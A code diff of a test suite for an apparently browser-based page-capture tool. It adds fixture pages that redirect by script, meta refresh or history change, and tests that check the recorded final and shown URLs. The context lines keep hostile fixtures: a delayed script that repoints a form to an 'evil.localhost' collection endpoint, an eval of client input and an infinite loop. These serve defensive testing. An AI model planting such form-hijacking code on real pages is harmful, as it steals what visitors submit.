@@ -29,6 +29,10 @@ eval('window.saw = "' + window.client + '"')
 setTimeout(() => document.getElementById('f').setAttribute('action', 'http://evil.localhost:PORT/collect'), 12000)`,
     '/after-consent.js': 'window.m_after_consent = 1',
     '/fields': page(provider),
+    '/by-script': page('<script>location.replace("/cart")</script>'),
+    '/by-refresh': page('<meta http-equiv="refresh" content="0; url=/cart">'),
+    '/by-history': page('<p>Your cart is empty.</p><script>history.replaceState({}, "", "/cart")</script>'),
+    '/cart': page('<p>Your cart is empty.</p><a href="/">On to the shop</a>'),
     '/inserted': page('<p>inserted</p>'),
     '/spins': page('<script>for (;;) {}</script>'),
     '/slow.js': (_incoming, outgoing) =>
@@ -155,5 +159,16 @@ describe('no browser process outlives its visit', () => {
     expect(made.outcome).toMatchObject({ status: 'failed', code: 'browser-failed' })
     expect(made.durationMs).toBeLessThan(6_000)
     await own.close()
+  })
+})
+
+describe('a page that sends the visit elsewhere by itself', () => {
+  it.each(['/by-script', '/by-refresh'])('by %s is told by where it ended', async (path) => {
+    const { page: told } = (await capture(browser, site.url(path))).capture
+    expect([told.finalUrl, told.shownUrl]).toEqual([site.url('/cart'), undefined])
+  })
+  it('by changing the address alone is told by the address that it shows', async () => {
+    const { page: told } = (await capture(browser, site.url('/by-history'))).capture
+    expect([told.finalUrl, told.shownUrl]).toEqual([site.url('/by-history'), site.url('/cart')])
   })
 })
